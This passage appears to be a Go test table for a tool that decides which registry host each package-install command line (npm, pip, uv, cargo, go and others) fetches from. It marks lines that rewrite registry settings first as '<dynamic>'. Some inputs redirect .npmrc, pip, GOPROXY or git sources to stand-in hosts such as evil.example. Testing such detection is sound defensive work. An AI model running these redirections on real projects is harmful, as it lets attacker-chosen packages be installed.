	{"env npm_config_@acme:registry=https://npm.acme.example/ npm i @acme/x", []string{"@acme/x registry.npmjs.org npm ^1", "@acme/x npm.acme.example npm ^1"}},
	{"env NPM_CONFIG_@ACME:REGISTRY=https://npm.acme.example/ npm ci", []string{"(package.json) registry.npmjs.org npm ^1", "(package.json) npm.acme.example npm ^1"}},
	{"env 'npm_config_@acme:registry=' npm i @acme/x", []string{"@acme/x registry.npmjs.org npm ^1", "@acme/x <dynamic> npm ^1"}},
	{"env npm_config_@:registry=https://e.example npm i x", []string{"x registry.npmjs.org npm ^1"}},
	// npm's git shortcuts and addresses come from the git host, local
	// paths from no host (npm-package-arg's reading; see TestNPMSpec).
	{"npm i github:u/r gitlab:u/r#v1 bitbucket:u/r gist:abc u/r",
		[]string{"github:u/r github.com npm ^0", "gitlab:u/r#v1 gitlab.com npm ^0", "bitbucket:u/r bitbucket.org npm ^0", "gist:abc gist.github.com npm ^0", "u/r github.com npm ^0"}},
	{"npm i git@git.example:u/r.git git+ssh://git@h.example:u/r.git git+ssh://git@h.example:22/u/r.git",
		[]string{"git@git.example:u/r.git git.example npm ^0", "git+ssh://git@h.example:u/r.git h.example npm ^0", "git+ssh://git@h.example:22/u/r.git h.example npm ^0"}},
	// A URL is read as one, whatever its "@" and ":" (npa: isURL before
	// isGit); scp-like addresses with or without git+ssh:// (item 4, 5).
	{"npm i ssh://git@host.example:2222/o/r", []string{"ssh://git@host.example:2222/o/r host.example npm ^0"}},
	{"npm i git+ssh://git@host.example:2222/o/r.git git+https://u@Host.example:8443/o/r git+https://u:p@h.example/o/r",
		[]string{"git+ssh://git@host.example:2222/o/r.git host.example npm ^0", "git+https://u@Host.example:8443/o/r host.example npm ^0", "git+https://u:p@h.example/o/r h.example npm ^0"}},
	{"npm i git@host.example:o/r x@git+ssh://git@host.example:o/r", []string{"git@host.example:o/r host.example npm ^0", "x@git+ssh://git@host.example:o/r host.example npm ^0"}},
	{"yarn add ssh://git@host.example/o/r.git", []string{"ssh://git@host.example/o/r.git host.example yarn ^0"}},
	{"poetry add git+ssh://git@gitlab.example:o/r.git", []string{"git+ssh://git@gitlab.example:o/r.git gitlab.example poetry ^0"}},
	{"poetry add git+ssh://git@GitLab.example:22/o/r.git#v1", []string{"git+ssh://git@GitLab.example:22/o/r.git#v1 gitlab.example poetry ^0"}},
	{"pip install git+ssh://git@gitlab.example/o/r.git git+ssh://git@gitlab.example:o/r.git", []string{"git+ssh://git@gitlab.example/o/r.git gitlab.example pip ^0", "git+ssh://git@gitlab.example:o/r.git gitlab.example pip ^0"}},
	{"pip install 'pkg @ git+ssh://git@gitlab.example/o/r.git' 'q @ git+ssh://git@gitlab.example:o/q'", []string{"pkg @ git+ssh://git@gitlab.example/o/r.git gitlab.example pip ^0", "q @ git+ssh://git@gitlab.example:o/q gitlab.example pip ^0"}},
	{"uv add git+ssh://git@gitlab.example/o/r.git git+ssh://git@gitlab.example:o/r", []string{"git+ssh://git@gitlab.example/o/r.git gitlab.example uv ^0", "git+ssh://git@gitlab.example:o/r gitlab.example uv ^0"}},
	{"pip install 'git+ssh://git@[::1:o/r' git+ssh://:o/r git+https://h.example:x/r", []string{"git+ssh://git@[::1:o/r <dynamic> pip ^0", "git+ssh://:o/r <dynamic> pip ^0", "git+https://h.example:x/r <dynamic> pip ^0"}},
	{"npm i x@github:u/r @s/y@u/r", []string{"x@github:u/r github.com npm ^0", "@s/y@u/r github.com npm ^0"}},
	{"npm i ../x /abs/x ~/x x.tgz x@./y x@file:../z", []string{"../x registry.npmjs.org npm ^0", "/abs/x registry.npmjs.org npm ^0", "~/x registry.npmjs.org npm ^0", "x.tgz registry.npmjs.org npm ^0", "x@./y registry.npmjs.org npm ^0", "x@file:../z registry.npmjs.org npm ^0"}},
	// A local package's dependencies come from the index it names
	// (pip's "." likewise); offline, from none.
	{"npm i --registry http://127.0.0.1:4873 ./lib", []string{"./lib 127.0.0.1 npm ^0"}},
	{"pnpm add ./lib", []string{"./lib registry.npmjs.org pnpm ^0"}},
	{"yarn add file:./lib", []string{"file:./lib registry.yarnpkg.com yarn ^0"}},
	{"bun add ./lib", []string{"./lib registry.npmjs.org bun ^0"}},
	{"pip install --no-index ./lib", []string{"./lib  pip ^0"}},
	{"cargo install --path .", []string{". index.crates.io cargo ^0"}},
	{"npm i foo:bar git@localhost:u/r", []string{"foo:bar <dynamic> npm ^0", "git@localhost:u/r <dynamic> npm ^0"}},
	{"npm i x@npm:y@1 @s/x", []string{"x@npm:y@1 registry.npmjs.org npm ^0", "@s/x registry.npmjs.org npm ^0"}},
	{"npm i --registry=$R github:u/r", []string{"github:u/r github.com npm ^0"}}, // the git host, whatever the registry
	{"yarn add u/r", []string{"u/r github.com yarn ^0"}},
	{"pip install u/r", []string{"u/r pypi.org pip ^0"}}, // pip reads no npm spec
	// Configuration the line may write before the install reads it
	// (pkgconfig.go): the index is <dynamic>, anywhere in the line.
	{"echo '@s:registry=https://evil.example/' >> .npmrc && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
	{"printf 'registry=https://evil.example/' > .npmrc; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"cp /tmp/x .npmrc && npm i x", []string{"x <dynamic> npm ^1"}},
	{"cp /tmp/x sub/.NPMRC && npm i x", []string{"x <dynamic> npm ^1"}},
	{"mv rc .npmrc; pnpm add x", []string{"x <dynamic> pnpm ^1"}},
	{"ln -s /tmp/evil .npmrc; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"npm i x; echo '@s:registry=https://e/' > .npmrc", []string{"x <dynamic> npm ^0"}}, // a loop may run it first
	{"sed -i s/a/b/ .npmrc && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"python3 -c \"open('.npmrc','w').write('@s:registry=https://e/')\" && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
	{"echo x | tee pip.conf && pip install x", []string{"x <dynamic> pip ^2"}},
	{"echo '[global]' > ~/.config/pip/pip.conf; python3 -m pip install x", []string{"x <dynamic> pip ^1"}},
	{"pip config set global.index-url https://evil.example/simple; pip install x", []string{"x <dynamic> pip ^1"}},
	{"python3 -m pip config set global.index-url https://e/; pip install x", []string{"x <dynamic> pip ^1"}},
	{"npm config set registry https://evil.example/ && npm i x", []string{"x <dynamic> npm ^1"}},
	{"npm set @s:registry https://evil.example/ && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
	{"yarn config set npmRegistryServer https://e/ && yarn add x", []string{"x <dynamic> yarn ^1"}},
	{"echo 'index-url = \"https://e/simple\"' > uv.toml; uv pip install x", []string{"x <dynamic> pip ^1"}},
	{"cat extra >> pyproject.toml && uv sync", []string{"(pyproject.toml) <dynamic> uv ^1"}},
	{"printf '[source.crates-io]\\nreplace-with=\"e\"' > .cargo/config.toml; cargo add serde", []string{"serde <dynamic> cargo ^1"}},
	{"echo x > \"$CARGO_HOME/config\"; cargo install rg", []string{"rg <dynamic> cargo ^1"}},
	{"go env -w GOPROXY=https://evil.example; go get x.org/y", []string{"x.org/y <dynamic> go ^1"}},
	{"go env -u GOPROXY && go get x.org/y", []string{"x.org/y <dynamic> go ^1"}},
	{"git config url.https://evil.example/.insteadOf https://github.com/ && go get github.com/a/b", []string{"github.com/a/b <dynamic> go ^1"}},
	{"git config --global url.x.insteadOf y; npm i github:u/r", []string{"github:u/r <dynamic> npm ^1"}},
	{"git -C . config url.x.insteadOf y; pip install git+https://github.com/a/b", []string{"git+https://github.com/a/b <dynamic> pip ^1"}},
	{"echo '[url \"x\"]' >> .git/config; cargo add serde", []string{"serde <dynamic> cargo ^1"}},
	{"poetry source add e https://e/simple && poetry add x", []string{"x <dynamic> poetry ^1"}},
	{"bundle config mirror.https://rubygems.org https://e && bundle install", []string{"(Gemfile) <dynamic> bundle ^1"}},
	// A file the install reads options from (pip -r, -c), written by the line.
	{"echo '-i https://evil.example/simple' > reqs.txt; pip install -r reqs.txt", []string{"(reqs.txt) <dynamic> pip ^1"}},
	{"curl -o c.txt https://h.example/c && pip install -c c.txt x", []string{"x <dynamic> pip ^1"}},
	// A write whose target is not literal, a tree writer, an unknown program.
	{"echo \"$X\" > \"$F\"; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"cp \"$SRC\" . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"cp tmpl/* . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"cp -r tmpl/. . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"tar xzf cfg.tgz && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"tar -C . -xf cfg.tar; pip install x", []string{"x <dynamic> pip ^1"}},
	{"unzip cfg.zip && uv sync", []string{"(pyproject.toml) <dynamic> uv ^1"}},
	{"git checkout other -- . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"git pull && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"curl -OJ https://h.example/f && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"wget -r https://h.example/ && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"curl -o \"$F\" https://h.example/f && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"$TOOL; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
	{"git clone https://h.example/r && npm --prefix r ci", []string{"(package.json) <dynamic> npm ^1"}},
	// Not a write of what the install reads: the decision stands.
	{"cat .npmrc && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
	{"grep registry .npmrc; npm i x", []string{"x registry.npmjs.org npm ^1"}},
	{"npm config get registry && npm i x", []string{"x registry.npmjs.org npm ^1"}},
	{"npm config list; pip config list; git config --get user.name; npm i x", []string{"x registry.npmjs.org npm ^3"}},
	{"git config get user.name; git status; npm ci", []string{"(package.json) registry.npmjs.org npm ^2"}},
	{"echo hi > log.txt && npm ci > npm.log 2>&1", []string{"(package.json) registry.npmjs.org npm ^1"}},
	{"cp a.txt b.txt && pip install x", []string{"x pypi.org pip ^1"}},
	{"tar czf out.tgz src && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
	{"echo x > .npmrc; pip install x", []string{"x pypi.org pip ^1"}}, // pip reads no .npmrc
	{"echo x > pip.conf; npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
	{"go env GOPROXY; go get x.org/y", []string{"x.org/y proxy.golang.org go ^1"}},
	{"make && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
	{"echo x > .npmrc; apt-get install -y curl", []string{"curl  apt-get ^1"}},
	{"pip install -r requirements.txt && cat requirements.txt", []string{"(requirements.txt) pypi.org pip ^0"}},
	{"pip install -r requirements.txt && cp /tmp/r requirements.txt", []string{"(requirements.txt) <dynamic> pip ^0"}},
	{"cp /tmp/r dev.txt; pip install -r reqs/dev.txt", []string{"(reqs/dev.txt) <dynamic> pip ^1"}},
	// Fetching a package to run it is an install of that package only:
	// what follows it is its own arguments (npx, uvx, npm exec after --).
	{"npx cowsay hi --registry https://e.example", []string{"cowsay registry.npmjs.org npm ^0"}},
	{"npx --registry https://r.example -y create-vite@5 app", []string{"create-vite@5 r.example npm ^0"}},
	{"npx -p typescript tsc --init", []string{"typescript registry.npmjs.org npm ^0"}},
	{"npm exec --package=cowsay -- cowsay hi", []string{"cowsay registry.npmjs.org npm ^0"}},
	{"npm x eslint src --registry https://r.example", []string{"eslint r.example npm ^0"}},
	{"npm exec -- eslint --registry https://e.example", []string{"eslint registry.npmjs.org npm ^0"}},
	{"npx", nil},
	{"pnpm dlx create-vite app", []string{"create-vite registry.npmjs.org pnpm ^0"}},
	{"pnpx create-vite app", []string{"create-vite registry.npmjs.org pnpm ^0"}},
	{"yarn dlx -p typescript tsc", []string{"typescript registry.yarnpkg.com yarn ^0"}},
	{"bunx cowsay hi", []string{"cowsay registry.npmjs.org bun ^0"}},
	{"uvx ruff check --index-url https://e.example .", []string{"ruff pypi.org uv ^0"}},
	{"uvx --from 'httpie>=3' http GET x", []string{"httpie>=3 pypi.org uv ^0"}},
	{"uv tool run --index-url https://i.example/simple ruff", []string{"ruff i.example uv ^0"}},
	{"uv tool install ruff --index-url https://i.example/simple", []string{"ruff i.example uv ^0"}},
	{"pipx run black .", []string{"black pypi.org pipx ^0"}},
	{"pipx run --spec black==24 black .", []string{"black==24 pypi.org pipx ^0"}},
	{"echo x > .npmrc; npx cowsay", []string{"cowsay <dynamic> npm ^1"}},
	// uv run locks and syncs the project before it runs the command (whose
	// words follow it); --no-sync does neither, but a script's own
	// dependencies are fetched all the same; --frozen still syncs.
	{"uv run pytest", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run pytest --index-url https://e.example/simple x", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --index-url https://i.example/simple pytest", []string{"(pyproject.toml) i.example uv ^0"}},
	{"uv run --with rich --with 'httpx>=0.27' python -c 1", []string{"rich pypi.org uv ^0", "httpx>=0.27 pypi.org uv ^0", "(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --frozen pytest", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --locked -- pytest", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --no-sync pytest", nil},
	{"uv run --no-sync --with rich python", []string{"rich pypi.org uv ^0"}},
	{"uv run --with-requirements r.txt python", []string{"(r.txt) pypi.org uv ^0", "(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --no-sync tool.py", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --no-sync TOOL.PY", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --no-sync tool.Pyw", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --no-sync py", nil},
	{"uv run --no-sync tool.pyc", nil},
	{"uv run --no-sync --script tool", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --no-sync - < x.py", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run pytest --no-sync", []string{"(pyproject.toml) pypi.org uv ^0"}}, // pytest's option
	{"uv run --offline pytest", []string{"(pyproject.toml)  uv ^0"}},
	{"uv run --no-index pytest", []string{"(pyproject.toml)  uv ^0"}},
	{"UV_INDEX_URL=https://u.example/simple uv run pytest", []string{"(pyproject.toml) u.example uv ^0"}},
	{"uv --directory sub run pytest", []string{"(pyproject.toml) pypi.org uv ^0"}},
	// uv run's options before the command take values the table lists
	// (uv-cli RunArgs): a value is not the command, so the options after it
	// are uv's; an option the table does not know may take the next word,
	// so the command is not known there: any index (issue 16 H2).
	{"uv run --resolution lowest --index https://pypi.evil.example/simple pytest", []string{"(pyproject.toml) pypi.org uv ^0", "(pyproject.toml) pypi.evil.example uv ^0"}},
	{"uv run --index-strategy unsafe-best-match --default-index https://e.example/simple pytest", []string{"(pyproject.toml) e.example uv ^0"}},
	{"uv run --keyring-provider subprocess -i https://e.example/simple pytest", []string{"(pyproject.toml) e.example uv ^0"}},
	{"uv run --exclude-newer 2025-01-01 --with evilpkg pytest", []string{"evilpkg pypi.org uv ^0", "(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --prerelease allow --with git+https://git.evil.example/x python", []string{"git+https://git.evil.example/x git.evil.example uv ^0", "(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --refresh-package x -w y pytest", []string{"y pypi.org uv ^0", "(pyproject.toml) pypi.org uv ^0"}},
	{"uv --color never run --link-mode copy pytest", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --all-extras --isolated -m pytest", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --future-opt v --index https://e.example/simple pytest", []string{"(pyproject.toml) <dynamic> uv ^0", "(pyproject.toml) e.example uv ^0"}},
	{"uv run --future-flag pytest", []string{"(pyproject.toml) <dynamic> uv ^0"}},
	{"uv run --future-opt=v pytest", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv run --no-sync --future-opt v --with x python", []string{"x <dynamic> uv ^0"}},
	// Options before the subcommand: a listed value option skips its value,
	// cargo's +toolchain is skipped, and a word after an option the table
	// does not know may be its value: the next word may be the subcommand
	// then, and that option may name any index (issue 16 H3, H4).
	{"cargo +stable fetch", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo +nightly --color never update", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo --color never fetch", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo +stable build", nil},
	{"cargo --future v fetch", []string{"(Cargo.toml) <dynamic> cargo ^0"}},
	{"cargo --locked fetch", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"uv --color never sync", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv --python-preference only-system sync", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv --allow-insecure-host x sync", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv --cache-dir c --color never venv", nil},
	{"uv --future v sync", []string{"(pyproject.toml) <dynamic> uv ^0"}},
	{"uv --future sync", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv --config-file cfg.toml sync", []string{"(pyproject.toml) <dynamic> uv ^0"}},
	{"uv sync --config-file cfg.toml", []string{"(pyproject.toml) <dynamic> uv ^0"}},
	{"uv run --config-file cfg.toml pytest", []string{"(pyproject.toml) <dynamic> uv ^0"}},
	{"uv lock --config-file=cfg.toml", []string{"(pyproject.toml) <dynamic> uv ^0"}},
	{"uv pip install --config-file cfg.toml requests", []string{"requests <dynamic> pip ^0"}},
	{"uv --color never pip install x", []string{"x pypi.org pip ^0"}},
	{"uv --config-file c.toml pip install x", []string{"x <dynamic> pip ^0"}},
	{"npm --color always update @s/x", []string{"@s/x <dynamic> npm ^0"}},
	{"npm --loglevel silly update @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm --usage false i @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm --future true ci", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm --heading x i @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm --head x i @s/x", []string{"<dynamic> <dynamic> npm ^0"}}, // --heading's value, or exec x
	{"npm --color always test", nil},
	{"pnpm --reporter silent update @s/x", []string{"@s/x registry.npmjs.org pnpm ^0"}},
	{"pnpm -w add x", []string{"x registry.npmjs.org pnpm ^0"}}, // --workspace-root
	{"npm -w pkg install x", []string{"x registry.npmjs.org npm ^0"}},
	{"npm --install-links install x", []string{"x registry.npmjs.org npm ^0"}},
	{"npm -g --yes install x", []string{"x registry.npmjs.org npm ^0"}}, // --yes takes only true, false, null
	{"npm -g install typescript", []string{"typescript registry.npmjs.org npm ^0"}},
	{"npx --yes cowsay", []string{"cowsay registry.npmjs.org npm ^0"}},
	{"npx -y cowsay hi", []string{"cowsay registry.npmjs.org npm ^0"}},
	{"npx --future v cowsay", []string{"<dynamic> <dynamic> npm ^0"}},
	{"npx --future true cowsay", []string{"cowsay registry.npmjs.org npm ^0"}},
	{"uvx --future v ruff", []string{"<dynamic> <dynamic> uv ^0"}},
	{"uvx --isolated ruff", []string{"ruff pypi.org uv ^0"}},
	{"uvx --with x ruff --index-url https://e.example", []string{"x pypi.org uv ^0", "ruff pypi.org uv ^0"}},
	{"uv tool run --with x ruff", []string{"x pypi.org uv ^0", "ruff pypi.org uv ^0"}},
	{"npm --no-color install x", []string{"x registry.npmjs.org npm ^0"}},
	{"npx --no-install cowsay", []string{"cowsay registry.npmjs.org npm ^0"}},
	{"yarn --future v", []string{"(package.json) <dynamic> yarn ^0"}},
	{"poetry -P sub lock", []string{"(pyproject.toml) pypi.org poetry ^0"}},
	{"poetry --project sub lock", []string{"(pyproject.toml) pypi.org poetry ^0"}},
	{"go -C sub mod download", []string{"(go.mod) proxy.golang.org go ^0"}},
	// npm finds its command as npm's deref does (lib/utils/cmd-list.js):
	// camelCase to kebab-case, an alias, a unique prefix of a command or an
	// alias (issue 16 H5).
	{"npm upd @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm updat", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm upgr @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm ded", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm dedup", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm install-t @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm install-ci", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm install-cl", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm clean-install-t", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm exe @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm cleanInstall", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm installTest @s/x", []string{"@s/x registry.npmjs.org npm ^0"}},
	{"npm installCiTest", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm Update x", nil},  // "-update": no command
	{"npm e x", nil},       // edit, exec, explain, explore
	{"npm ad x", nil},      // add, add-user, adduser
	{"npm install-s", nil}, // install-scripts
	{"npm un x", nil},
	// uv lock, remove, tree and export resolve against the index (tree and
	// export lock first, unless --frozen).
	{"uv lock", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv lock --upgrade-package httpx --index-url https://i.example/simple", []string{"(pyproject.toml) i.example uv ^0"}},
	{"uv lock --offline", []string{"(pyproject.toml)  uv ^0"}},
	{"uv remove httpx", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv tree", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv tree --frozen", nil},
	{"uv export --frozen -o requirements.txt", nil},
	{"uv export --format requirements-txt", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv sync --frozen", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv sync --locked --extra dev", []string{"(pyproject.toml) pypi.org uv ^0"}},
	{"uv --offline tool run ruff", []string{"ruff  uv ^0"}},
	{"uv tool list", nil},
	{"uv venv", nil},
	{"uv python list", nil},
	{"uv pip sync requirements.txt", []string{"(requirements.txt) pypi.org pip ^0"}},
	{"uv pip compile requirements.in -o requirements.txt -i https://i.example/simple", []string{"(requirements.in) i.example pip ^0"}},
	{"uv pip list", nil},
	// Go: go mod download fetches the modules named or the build list's;
	// tidy and vendor what the build list lacks; builds fetch implicitly
	// (bounded by the egress proxy, no install decided).
	{"go mod download", []string{"(go.mod) proxy.golang.org go ^0"}},
	{"go mod download -x golang.org/x/text@v0.14.0 rsc.io/quote", []string{"golang.org/x/text@v0.14.0 proxy.golang.org go ^0", "rsc.io/quote proxy.golang.org go ^0"}},
	{"go mod download -json all", []string{"all proxy.golang.org go ^0"}},
	{"go mod tidy", []string{"(go.mod) proxy.golang.org go ^0"}},
	{"go mod tidy -go=1.22", []string{"(go.mod) proxy.golang.org go ^0"}},
	{"go -C sub mod vendor", []string{"(go.mod) proxy.golang.org go ^0"}},
	{"go work sync", []string{"(go.mod) proxy.golang.org go ^0"}},
	{"GOPROXY=https://g.example go mod download", []string{"(go.mod) g.example go ^0"}},
	{"GOFLAGS=-mod=mod GOPROXY=off go mod tidy", []string{"(go.mod)  go ^0"}},
	{"go get", []string{"(go.mod) proxy.golang.org go ^0"}},
	{"go mod init example.com/m", nil},
	{"go mod $SUB", []string{"<dynamic> <dynamic> go ^0"}},
	{"uv tool \"$X\" ruff", []string{"<dynamic> <dynamic> uv ^0"}},
	{"go mod", nil},
	{"go mod edit -require=a.org/m@v1", nil},
	{"go mod graph", nil},
	{"go mod why -m a.org/m", nil},
	{"go test ./...", nil},
	{"go vet ./... && go build -o x .", nil},
	// GOPRIVATE with a manifest, a local pattern or "all": modules from any
	// of their own hosts, not a host named after the word.
	{"GOPRIVATE=* go get", []string{"(go.mod) proxy.golang.org go ^0", "(go.mod) <dynamic> go ^0"}},
	{"GOPRIVATE=* go get -u ./...", []string{"./... proxy.golang.org go ^0", "./... <dynamic> go ^0"}},
	{"GONOPROXY=* go mod download all", []string{"all proxy.golang.org go ^0", "all <dynamic> go ^0"}},
	{"GOPRIVATE=* go mod download Git.Example/m@v1", []string{"Git.Example/m@v1 proxy.golang.org go ^0", "Git.Example/m@v1 git.example go ^0", "Git.Example/m@v1 <dynamic> go ^0"}},
	// Cargo: fetch, update, generate-lockfile and vendor fetch the
	// manifest's dependencies; --offline and --frozen nothing.
	{"cargo fetch", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo update", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo update -p serde --precise 1.0.200", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo generate-lockfile", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo vendor third_party", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
	{"cargo fetch --offline", []string{"(Cargo.toml)  cargo ^0"}},
	{"cargo update --frozen", []string{"(Cargo.toml)  cargo ^0"}},
	{"cargo install --offline ripgrep", []string{"ripgrep  cargo ^0"}},
	{"CARGO_HOME=/tmp/c cargo fetch", []string{"(Cargo.toml) <dynamic> cargo ^0"}},
	{"cargo test && cargo run --release", nil},
	{"cargo check; cargo clippy; cargo doc", nil},
	// npm update (and its aliases) fetches the named packages or the
	// manifest's; pnpm, yarn and bun alike; pnpm fetch the lockfile's.
	{"npm update", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm up lodash --registry https://r.example", []string{"lodash r.example npm ^0"}},
	{"npm upgrade", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"npm udpate -g npm@10", []string{"npm@10 registry.npmjs.org npm ^0"}},
	{"npm dedupe", []string{"(package.json) registry.npmjs.org npm ^0"}},
	{"pnpm update --latest", []string{"(package.json) registry.npmjs.org pnpm ^0"}},
	{"pnpm up react", []string{"react registry.npmjs.org pnpm ^0"}},
	{"pnpm fetch --prod", []string{"(package.json) registry.npmjs.org pnpm ^0"}},
	{"yarn upgrade", []string{"(package.json) registry.yarnpkg.com yarn ^0"}},
	{"yarn up react", []string{"react registry.yarnpkg.com yarn ^0"}},
	{"bun update", []string{"(package.json) registry.npmjs.org bun ^0"}},
	{"npm run build && npm test && npm ls", nil},
	{"npm outdated; npm audit; npm prune", nil},
	{"pnpm run test; yarn test; bun run x", nil},
	// pip download and wheel fetch as install does.
	{"pip download x==1 -d dist", []string{"x==1 pypi.org pip ^0"}},
	{"pip wheel -r requirements.txt -w wheels", []string{"(requirements.txt) pypi.org pip ^0"}},
	{"pip list; pip freeze; pip show x", nil},
	// poetry: lock, update, sync and remove resolve against the sources.
	{"poetry lock", []string{"(pyproject.toml) pypi.org poetry ^0"}},
	{"poetry update requests", []string{"requests pypi.org poetry ^0"}},
	{"poetry update", []string{"(pyproject.toml) pypi.org poetry ^0"}},
	{"poetry sync", []string{"(pyproject.toml) pypi.org poetry ^0"}},
	{"poetry remove requests", []string{"(pyproject.toml) pypi.org poetry ^0"}},
	{"poetry run pytest; poetry build; poetry show", nil},
	{"bundle update rails", []string{"rails rubygems.org bundle ^0"}},
	{"bundle lock", []string{"(Gemfile) rubygems.org bundle ^0"}},
	{"bundle exec rake", nil},
	// Go: GOPRIVATE and GONOPROXY fetch matching modules from their own
	// host; GOENV and GOROOT name the files go reads its settings from.
	{"GOPRIVATE=* go get evil.example/m@v1", []string{"evil.example/m@v1 proxy.golang.org go ^0", "evil.example/m@v1 evil.example go ^0", "evil.example/m@v1 <dynamic> go ^0"}},
	// Direct from a code host go knows is that host; from any other, its
	// go-get meta tag may name any host (issue 16).
	{"GOPRIVATE=* go get github.com/a/b@v1", []string{"github.com/a/b@v1 proxy.golang.org go ^0", "github.com/a/b@v1 github.com go ^0"}},
	{"GOPROXY=off GONOPROXY=* go get golang.org/x/tools@v0.1.0", []string{"golang.org/x/tools@v0.1.0  go ^0", "golang.org/x/tools@v0.1.0 golang.org go ^0", "golang.org/x/tools@v0.1.0 <dynamic> go ^0"}},
	{"GOPROXY='https://p.example|direct' go install bitbucket.org/a/b@v1", []string{"bitbucket.org/a/b@v1 p.example go ^0", "bitbucket.org/a/b@v1 bitbucket.org go ^0"}},
	{"GOPROXY=direct go mod download x.org/m@v1", []string{"x.org/m@v1 x.org go ^0", "x.org/m@v1 <dynamic> go ^0"}},
	// Option lists completed (issue 16): lines an unknown option made
	// <dynamic>, options that move the folder, and options read otherwise.
	{"yarn --mutex network add x", []string{"x registry.yarnpkg.com yarn ^0"}},
	{"yarn --cache-folder /tmp/c add x", []string{"x registry.yarnpkg.com yarn ^0"}},
	{"yarn add -C lodash", []string{"lodash registry.yarnpkg.com yarn ^0"}},
	{"yarn workspace web add x", []string{"x registry.yarnpkg.com yarn ^0"}},
	{"yarn workspaces foreach -A --exclude a add x", []string{"x registry.yarnpkg.com yarn ^0"}},
	{"yarn --emoji true", []string{"(package.json) <dynamic> yarn ^0"}}, // was none: "true" is --emoji's (classic)
	{"yarn --use-yarnrc ./r add x", []string{"x <dynamic> yarn ^0"}},
	{"pnpm -F web add x", []string{"x registry.npmjs.org pnpm ^0"}},
	{"pnpm --workspace-concurrency 2 -r update", []string{"(package.json) registry.npmjs.org pnpm ^0"}},
	{"pnpm add --workspace x", []string{"x registry.npmjs.org pnpm ^0"}},
	{"pnpm --pnpmfile ./h.cjs add x", []string{"x <dynamic> pnpm ^0"}},
	{"bun add -d x", []string{"x registry.npmjs.org bun ^0"}},
	{"bun --cwd sub --silent add x", []string{"x registry.npmjs.org bun ^0"}},
	{"bun install -c ./b.toml", []string{"(package.json) <dynamic> bun ^0"}},
	{"go get -x -v -tags t example.com/m@v1", []string{"example.com/m@v1 proxy.golang.org go ^0"}},
	{"go install -trimpath -ldflags=-s golang.org/x/tools/gopls@latest", []string{"golang.org/x/tools/gopls@latest proxy.golang.org go ^0"}},
